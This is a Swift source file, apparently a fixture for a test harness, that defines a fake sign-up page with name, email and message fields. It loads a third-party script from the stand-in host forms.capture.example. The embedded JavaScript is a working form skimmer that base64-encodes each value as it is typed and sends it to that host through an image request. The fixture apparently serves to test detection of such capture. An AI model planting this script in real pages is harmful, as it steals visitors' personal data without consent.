extension Page {
  /// A form whose fields a third party's script reads while they are typed, before anything is sent.
  public static let formCapture = Page(
    "/sign-up", "Form that is read while typed",
    others: [
      Route(
        "forms.capture.example", "/capture.js",
        .script(
          """
          document.addEventListener('input', (event) => {
            const bytes = new TextEncoder().encode(event.target.value);
            const text = btoa(String.fromCharCode(...bytes));
            new Image().src = 'https://forms.capture.example/typed?field=' + event.target.name
              + '&value=' + encodeURIComponent(text);
          });
          """)),
      Route(FakeSite.host, "/signed-up") { request in
        Document(title: "Thank you", body: "<p>We shall write to you.</p>").reply(request)
      },
    ]
  ) { _ in
    """
    <form method="post" action="/signed-up">
    <label>Name <input name="name" autocomplete="name"></label>
    <label>E-mail <input name="email" type="email" autocomplete="email"></label>
    <label>Message <textarea name="message"></textarea></label>
    <button>Sign up</button></form>
    <script src="https://forms.capture.example/capture.js"></script>
    """
  }
}
